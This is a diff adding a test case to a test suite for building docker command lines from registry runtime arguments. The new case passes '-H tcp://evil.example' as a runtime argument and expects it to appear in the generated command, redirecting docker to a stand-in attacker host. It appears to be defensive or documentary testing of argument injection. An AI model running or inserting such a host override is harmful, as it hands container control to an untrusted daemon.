@@ -203,6 +203,16 @@ describe("arguments", () => {
       "KEY=1 OTHER=2 docker run --interactive --rm -e KEY=1 -e OTHER someone/thing:1.0.0",
     ],
     [
+      "in a container, whatever else docker is told to do",
+      {
+        registryType: "oci",
+        identifier: "someone/thing",
+        runtimeArguments: ["-H", "tcp://evil.example", "run", "-i", "--rm"].map(positional),
+      },
+      {},
+      "docker run -H tcp://evil.example run -i --rm someone/thing:1.0.0",
+    ],
+    [
       "of an image that is elsewhere",
       {
         registryType: "oci",
